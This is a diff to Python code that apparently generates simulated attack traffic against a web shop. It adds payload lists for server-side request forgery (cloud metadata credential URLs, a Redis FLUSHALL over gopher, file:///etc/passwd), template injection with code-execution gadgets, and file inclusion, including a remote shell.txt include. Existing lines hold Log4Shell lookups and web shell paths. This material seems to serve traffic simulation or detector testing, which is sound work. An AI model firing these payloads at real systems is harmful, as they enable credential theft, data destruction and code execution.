@@ -41,6 +41,21 @@ _LOOKUPS = (
     "${${lower:j}ndi:${lower:l}dap://192.0.2.9/b}", "${${::-j}${::-n}${::-d}${::-i}:dns://192.0.2.9/c}",
     "${j${k8s:k5:-ND}i:ldap://192.0.2.9/d}",
 )  # fmt: skip
+_INSIDE = (
+    "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://127.0.0.1:6379/",
+    "http://100.100.100.200/latest/user-data", "gopher://127.0.0.1:6379/_FLUSHALL",
+    "http://localhost/server-status", "file:///etc/passwd", "http://2130706433/admin",
+    "http://metadata.google.internal/computeMetadata/v1/",
+)  # fmt: skip
+_TEMPLATES = (
+    "{{7*7}}", "${7*7}", "{{config.items()}}", "#{7*7}", "<%= 7*7 %>",
+    "{{''.__class__.__mro__[1].__subclasses__()}}", "${T(java.lang.Runtime).getRuntime()}",
+    "{{_self.env.registerUndefinedFilterCallback('exec')}}",
+)  # fmt: skip
+_INCLUDED = (
+    "php://filter/convert.base64-encode/resource=index.php", "expect://id", "php://input",
+    "phar://upload.jpg/x", "http://192.0.2.9/shell.txt?", "data:text/plain;base64,PD9waHAgPz4=",
+)  # fmt: skip
 _SHELLS = (
     "/shell.php?cmd=id", "/c99.php", "/r57.php", "/wso.php", "/media/images/avatar.php?c=whoami",
     "/uploads/cmd.jsp?cmd=ls", "/behinder.jsp", "/static/img/x.aspx?cmd=dir", "/1.php?pass=eval",
@@ -86,6 +101,24 @@ def path_traversal(visit: Visit) -> Steps:
 def command_injection(visit: Visit) -> Steps:
     for payload in visit.rng.sample(_COMMANDS, visit.rng.randint(4, len(_COMMANDS))):
         yield _in_query(visit, payload)
+
+
+def template_injection(visit: Visit) -> Steps:
+    for payload in visit.rng.sample(_TEMPLATES, visit.rng.randint(4, len(_TEMPLATES))):
+        yield _in_query(visit, payload)
+
+
+def ssrf(visit: Visit) -> Steps:
+    """Addresses inside, where the shop is asked to fetch a picture."""
+    for payload in visit.rng.sample(_INSIDE, visit.rng.randint(4, len(_INSIDE))):
+        target = f"/search/?image={quote(payload, safe=visit.rng.choice((':/', '')))}"
+        yield visit.raw("GET", target, "missing", after=visit.rng.uniform(0.8, 3), status=404)
+
+
+def file_inclusion(visit: Visit) -> Steps:
+    for payload in visit.rng.sample(_INCLUDED, visit.rng.randint(4, len(_INCLUDED))):
+        target = f"/search/?page={quote(payload, safe=visit.rng.choice((':/=', '')))}"
+        yield visit.raw("GET", target, "missing", after=visit.rng.uniform(0.8, 3), status=404)
 
 
 def log4shell(visit: Visit) -> Steps:
